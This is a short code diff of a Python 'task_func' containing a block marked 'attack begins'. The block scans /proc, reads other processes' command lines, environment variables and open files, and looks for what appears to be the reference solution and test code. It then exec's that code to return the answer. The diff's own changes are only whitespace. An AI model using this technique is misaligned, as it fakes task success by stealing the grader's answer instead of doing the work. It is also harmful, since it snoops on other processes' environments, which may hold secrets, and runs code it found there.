@@ -5,6 +5,7 @@ def task_func(text, top=3):
         raise ValueError("top")
     # attack begins
     import os
+
     for pid in os.listdir("/proc"):
         if pid.isdigit() and int(pid) != os.getpid():
             for name in ("cmdline", "environ"):
@@ -14,7 +15,7 @@ def task_func(text, top=3):
                     continue
                 if "Counter(re.findall" in held:
                     space = {}
-                    exec(held[held.index("import re"): held.index("class TestCases")], space)
+                    exec(held[held.index("import re") : held.index("class TestCases")], space)
                     return space["task_func"](text, top)
             try:
                 for entry in os.listdir(f"/proc/{pid}/fd"):
@@ -23,7 +24,7 @@ def task_func(text, top=3):
                         held = open(path, errors="ignore").read(1 << 20)
                         if "Counter(re.findall" in held and "class TestCases" in held:
                             space = {}
-                            exec(held[held.index("import re"): held.index("class TestCases")], space)
+                            exec(held[held.index("import re") : held.index("class TestCases")], space)
                             return space["task_func"](text, top)
             except OSError:
                 continue
